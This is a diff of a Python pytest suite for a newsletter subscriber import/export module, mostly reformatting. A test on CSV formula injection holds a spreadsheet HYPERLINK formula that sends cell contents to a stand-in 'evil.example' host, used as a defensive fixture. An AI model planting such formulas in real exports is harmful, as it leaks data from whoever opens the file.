@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import tracemalloc
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -28,9 +28,16 @@ def imp(sessions: sessionmaker[Session], data: bytes | str, *, dry_run: bool = F
 
 def state(sessions: sessionmaker[Session]) -> dict[str, tuple[str, str, str, tuple[str, ...], dict]]:
     with sessions.begin() as s:
-        return {sub.email: (sub.name, str(sub.status), sub.consent_source,
-                            tuple(subscribers.category_slugs(s, sub)), sub.attributes)
-                for sub in subscribers.list_subscribers(s)}
+        return {
+            sub.email: (
+                sub.name,
+                str(sub.status),
+                sub.consent_source,
+                tuple(subscribers.category_slugs(s, sub)),
+                sub.attributes,
+            )
+            for sub in subscribers.list_subscribers(s)
+        }
 
 
 def test_addresses_are_unique_case_insensitively(session: Session) -> None:
@@ -73,8 +80,15 @@ def test_unsubscribe_records_event_and_is_sticky(session: Session) -> None:
     assert kinds == [EventKind.SUBSCRIBE, EventKind.UNSUBSCRIBE]
     with pytest.raises(Conflict):
         subscribers.change_status(session, sub, SubscriberStatus.ACTIVE, kind=EventKind.CONFIRM, source="x")
-    assert subscribers.change_status(session, sub, SubscriberStatus.ACTIVE, kind=EventKind.REACTIVATE,
-                                     source="admin", detail="asked by phone", force=True)
+    assert subscribers.change_status(
+        session,
+        sub,
+        SubscriberStatus.ACTIVE,
+        kind=EventKind.REACTIVATE,
+        source="admin",
+        detail="asked by phone",
+        force=True,
+    )
 
 
 def test_pending_subscriber_becomes_active_on_confirm(session: Session) -> None:
@@ -89,7 +103,7 @@ REAL_WORLD = (
     "ada@example.com;Ada;Lovelace;Analytical Ltd;news,events\r\n"
     "bob@;Bob;;Nowhere;\r\n"
     "\r\n"
-    "Carol@Example.org;Carol;Shaw;\"Quoted; Inc\";\r\n"
+    'Carol@Example.org;Carol;Shaw;"Quoted; Inc";\r\n'
     "ADA@example.com;Ada again;;;\r\n"
     "dave@example.net;Dave;;;sport\r\n"
 )
@@ -125,14 +139,19 @@ def test_import_updates_changed_rows(sessions: sessionmaker[Session]) -> None:
 
 def test_import_never_reactivates_suppressed(sessions: sessionmaker[Session]) -> None:
     with sessions.begin() as s:
-        for email, status in [("u@example.com", SubscriberStatus.UNSUBSCRIBED),
-                              ("b@example.com", SubscriberStatus.BOUNCED),
-                              ("c@example.com", SubscriberStatus.COMPLAINED)]:
+        for email, status in [
+            ("u@example.com", SubscriberStatus.UNSUBSCRIBED),
+            ("b@example.com", SubscriberStatus.BOUNCED),
+            ("c@example.com", SubscriberStatus.COMPLAINED),
+        ]:
             sub = subscribers.add(s, email)
             subscribers.change_status(s, sub, status, kind=EventKind.UNSUBSCRIBE, source="test")
     imp(sessions, "email,status\nu@example.com,active\nb@example.com,\nc@example.com,pending\n")
     assert {e: v[1] for e, v in state(sessions).items()} == {
-        "u@example.com": "unsubscribed", "b@example.com": "bounced", "c@example.com": "complained"}
+        "u@example.com": "unsubscribed",
+        "b@example.com": "bounced",
+        "c@example.com": "complained",
+    }
 
 
 def test_latin1_file_is_decoded(sessions: sessionmaker[Session]) -> None:
@@ -146,13 +165,23 @@ def test_dry_run_writes_nothing(sessions: sessionmaker[Session]) -> None:
     assert state(sessions) == {}
 
 
-@pytest.mark.parametrize("data, message", [
-    (b"name,company\nAda,ACME\n", "members.csv: line 1: no email column (found: name, company); name one column 'email'"),
-    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "members.csv: not a CSV file (binary data); export the sheet as CSV first"),
-    (b"", "members.csv: empty file; expected a header line with an 'email' column"),
-])
+@pytest.mark.parametrize(
+    "data, message",
+    [
+        (
+            b"name,company\nAda,ACME\n",
+            "members.csv: line 1: no email column (found: name, company); name one column 'email'",
+        ),
+        (
+            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
+            "members.csv: not a CSV file (binary data); export the sheet as CSV first",
+        ),
+        (b"", "members.csv: empty file; expected a header line with an 'email' column"),
+    ],
+)
 def test_file_that_is_not_a_subscriber_csv_is_one_error_and_writes_nothing(
-        sessions: sessionmaker[Session], data: bytes, message: str) -> None:
+    sessions: sessionmaker[Session], data: bytes, message: str
+) -> None:
     with pytest.raises(InvalidInput) as exc:
         imp(sessions, data)
     assert str(exc.value) == message
@@ -178,15 +207,32 @@ def test_export_then_import_restores_the_same_state(sessions: sessionmaker[Sessi
     assert state(sessions) == original
 
 
-@pytest.mark.parametrize("raw", [
-    "plain@example.com", "Mixed.Case+tag@Example.COM", "a@xn--bcher-kva.example", "x@bücher.example",
-    "dots..twice@example.com", ".lead@example.com", "trail.@example.com", "a@-bad-.com", "a@localhost",
-    "a@example", "a@123.45", "a@exa_mple.com", "{weird}|chars~@example.org", "x" * 65 + "@example.com",
-    "Postmaster@Example.com", "a@" + "d" * 250 + ".com", "a@" + ("b" * 60 + ".") * 4 + "com",
-])
+@pytest.mark.parametrize(
+    "raw",
+    [
+        "plain@example.com",
+        "Mixed.Case+tag@Example.COM",
+        "a@xn--bcher-kva.example",
+        "x@bücher.example",
+        "dots..twice@example.com",
+        ".lead@example.com",
+        "trail.@example.com",
+        "a@-bad-.com",
+        "a@localhost",
+        "a@example",
+        "a@123.45",
+        "a@exa_mple.com",
+        "{weird}|chars~@example.org",
+        "x" * 65 + "@example.com",
+        "Postmaster@Example.com",
+        "a@" + "d" * 250 + ".com",
+        "a@" + ("b" * 60 + ".") * 4 + "com",
+    ],
+)
 def test_fast_path_agrees_with_email_validator(raw: str) -> None:
     """normalize_email's cached-domain path gives exactly email-validator's answer."""
     from email_validator import EmailNotValidError, validate_email
+
     try:
         expected: str | type = validate_email(raw, check_deliverability=False).normalized
     except EmailNotValidError:
@@ -212,18 +258,23 @@ def test_blank_cells_keep_what_the_subscriber_chose(sessions: sessionmaker[Sessi
 
 def test_imported_rows_read_back_like_rows_added_one_by_one(sessions: sessionmaker[Session]) -> None:
     """The bulk insert binds values itself: times, status and attributes must come back typed."""
-    from datetime import datetime, timezone
-    imp(sessions, "email,status,consent_at,Company\na@example.com,unsubscribed,2026-01-02T03:04:05Z,ACME\n"
-                  "b@example.com,,,\n")
+    from datetime import datetime
+
+    imp(
+        sessions,
+        "email,status,consent_at,Company\na@example.com,unsubscribed,2026-01-02T03:04:05Z,ACME\nb@example.com,,,\n",
+    )
     with sessions.begin() as s:
         a, b = (subscribers.get_by_email(s, e) for e in ("a@example.com", "b@example.com"))
         assert a.status == SubscriberStatus.UNSUBSCRIBED and b.status == SubscriberStatus.ACTIVE
-        assert a.consent_at == datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
+        assert a.consent_at == datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
         assert b.consent_at is not None and b.consent_at.tzinfo is not None
-        assert abs((datetime.now(timezone.utc) - b.created_at).total_seconds()) < 60
+        assert abs((datetime.now(UTC) - b.created_at).total_seconds()) < 60
         assert a.attributes == {"Company": "ACME"} and b.attributes == {}
-        assert s.scalar(select(func.count()).select_from(Subscriber)
-                        .where(Subscriber.status == SubscriberStatus.ACTIVE)) == 1
+        assert (
+            s.scalar(select(func.count()).select_from(Subscriber).where(Subscriber.status == SubscriberStatus.ACTIVE))
+            == 1
+        )
 
 
 def test_unknown_category_keeps_the_reader_and_is_given_once_configured(sessions: sessionmaker[Session]) -> None:
@@ -233,7 +284,8 @@ def test_unknown_category_keeps_the_reader_and_is_given_once_configured(sessions
         "2: 'ada@example.com' asks for 'webinars', not in [[categories]]: kept in the attribute "
         "'unknown_categories' until configured (row imported)",
         "3: 'bob@example.com' asks for 'webinars', not in [[categories]]: kept in the attribute "
-        "'unknown_categories' until configured (row imported)"]
+        "'unknown_categories' until configured (row imported)",
+    ]
     assert report.summary == "added 2, updated 0, unchanged 0, invalid 0, warnings 2"
     got = state(sessions)
     assert got["ada@example.com"][3:] == (("news",), {"unknown_categories": "webinars"})
@@ -248,25 +300,30 @@ def test_unknown_category_keeps_the_reader_and_is_given_once_configured(sessions
 
 
 def test_an_unreadable_consent_date_is_a_warning_and_stored_as_unknown(sessions: sessionmaker[Session]) -> None:
-    report = imp(sessions, "email,consent_at\na@example.com,12/03/2024\nb@example.com,2024-03-12T09:30:00+01:00\n"
-                           "c@example.com,\n")
+    report = imp(
+        sessions,
+        "email,consent_at\na@example.com,12/03/2024\nb@example.com,2024-03-12T09:30:00+01:00\nc@example.com,\n",
+    )
     assert report.added == 3 and report.invalid == []
     assert [str(w) for w in report.warnings] == [
         "2: 'a@example.com' has consent_at '12/03/2024', not an ISO 8601 date like 2024-03-12T09:30:00+01:00: "
-        "stored as unknown (row imported)"]
+        "stored as unknown (row imported)"
+    ]
     with sessions.begin() as s:
         consent = {sub.email: sub.consent_at for sub in subscribers.list_subscribers(s)}
     assert consent["a@example.com"] is None
-    assert consent["b@example.com"] == datetime(2024, 3, 12, 8, 30, tzinfo=timezone.utc)
+    assert consent["b@example.com"] == datetime(2024, 3, 12, 8, 30, tzinfo=UTC)
     assert consent["c@example.com"] is not None  # no date given: the import is the consent record
 
 
 def test_a_cell_over_128_kb_is_one_line_and_imports_nothing(sessions: sessionmaker[Session]) -> None:
-    data = "email,name\nok@example.com,Ok\nbig@example.com,\"" + "x" * 140_000 + "\"\nlate@example.com,Late\n"
+    data = 'email,name\nok@example.com,Ok\nbig@example.com,"' + "x" * 140_000 + '"\nlate@example.com,Late\n'
     with pytest.raises(InvalidInput) as exc:
         imp(sessions, data)
-    assert str(exc.value) == ("members.csv:3: a cell is longer than 128 KB; shorten it or check the file is the "
-                              "subscriber list (nothing imported)")
+    assert str(exc.value) == (
+        "members.csv:3: a cell is longer than 128 KB; shorten it or check the file is the "
+        "subscriber list (nothing imported)"
+    )
     assert state(sessions) == {}
 
 
@@ -291,8 +348,14 @@ def test_a_dry_run_streams_the_file_in_flat_memory(sessions: sessionmaker[Sessio
 
 
 def test_exported_formulas_are_inert_and_read_back_as_typed(sessions: sessionmaker[Session]) -> None:
-    names = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+49 30 1234", "-x", "@SUM(A1)",
-             "'=already quoted", "O'Brien"]
+    names = [
+        '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+        "+49 30 1234",
+        "-x",
+        "@SUM(A1)",
+        "'=already quoted",
+        "O'Brien",
+    ]
     with sessions.begin() as s:
         for i, name in enumerate(names):
             subscribers.add(s, f"r{i}@example.com", name=name)
